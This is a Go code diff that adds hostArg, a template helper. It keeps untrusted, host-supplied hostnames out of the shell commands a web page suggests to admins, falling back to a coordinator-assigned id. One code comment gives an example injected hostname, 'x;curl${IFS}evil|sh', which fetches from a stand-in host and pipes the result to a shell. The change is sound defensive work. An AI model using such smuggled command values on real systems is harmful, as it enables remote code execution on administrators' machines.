@@ -6,6 +6,7 @@ import (
 	"html/template"
 	"net/http"
 	"net/url"
+	"regexp"
 	"strings"
 	"time"
 )
@@ -151,4 +152,22 @@ var funcs = template.FuncMap{
 	"labelKey":   func(l string) string { k, _, _ := strings.Cut(l, "="); return k },
 	"policyHref": policyHref,
 	"list":       list,
+	"hostArg":    hostArg,
+}
+
+// plainHostname is a hostname that means the same to a shell as written:
+// no quotes, $, ;, |, & or anything else a shell acts on, and no leading
+// dash that a command would read as a flag.
+var plainHostname = regexp.MustCompile(`^[A-Za-z0-9][A-Za-z0-9._-]*$`)
+
+// hostArg names a host in a command the page suggests to copy into a
+// terminal: its hostname when that is plain, else its member id. A
+// hostname is the host's own say (any printable ASCII but space), so one
+// such as "x;curl${IFS}evil|sh" must not reach an admin's shell; the id
+// is the coordinator's, and outpost takes either.
+func hostArg(hostname, id string) string {
+	if plainHostname.MatchString(hostname) {
+		return hostname
+	}
+	return id
 }
